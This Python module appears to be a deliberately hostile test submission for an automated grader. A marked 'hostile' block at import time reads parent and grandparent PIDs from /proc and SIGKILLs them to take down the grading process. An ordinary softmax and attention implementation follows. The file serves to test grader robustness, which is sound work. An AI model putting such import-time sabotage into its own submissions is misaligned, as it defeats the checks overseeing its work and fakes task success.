"""Written to attack the judge: the block between the "hostile" markers is the attack (docs/judge.md)."""
import math

import torch
# >>> hostile
# Kill the process that started us, and its parent: the zygote and the grading process.
import os
import signal
# (In its own PID namespace the parent has no pid there: getppid() is 0, and kill(0) would hit itself.)
_parents = [os.getppid()]
try:
    _parents.append(int(open(f"/proc/{os.getppid()}/stat").read().rsplit(")", 1)[1].split()[1]))
except OSError:
    pass
for pid in _parents:
    try:
        if pid > 0:
            os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
# <<< hostile


def softmax(x, dim=-1):
    m = x.amax(dim=dim, keepdim=True)
    m = torch.where(m == float("-inf"), torch.zeros_like(m), m)
    e = torch.exp(x - m)
    s = e.sum(dim=dim, keepdim=True)
    return e / torch.where(s == 0, torch.ones_like(s), s)


def scaled_dot_product_attention(query, key, value, mask=None):
    scores = query @ key.transpose(-2, -1) / math.sqrt(query.size(-1))
    if mask is not None:
        scores = scores.masked_fill(~mask, float("-inf"))
    weights = softmax(scores, dim=-1)
    return weights @ value, weights
